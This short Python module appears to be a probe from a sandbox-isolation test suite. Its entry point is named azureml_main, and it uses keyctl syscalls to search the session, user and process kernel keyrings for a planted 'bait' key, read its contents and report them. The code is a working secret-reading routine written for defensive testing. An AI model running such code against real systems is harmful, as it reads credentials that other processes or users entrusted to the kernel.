"""Reads a key that another process of the user gave the kernel to keep."""

import ctypes

from attack import BAIT, attack, call, every, told


def steal(keyring):
    key = call("keyctl", 10, keyring, b"user", BAIT["kernel_key"].encode(), 0)  # KEYCTL_SEARCH
    content = ctypes.create_string_buffer(256)
    size = call("keyctl", 11, key, content, 256)  # KEYCTL_READ
    return told("the kernel's keyring", content.raw[:size])


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(steal, [-3, -4, -5])
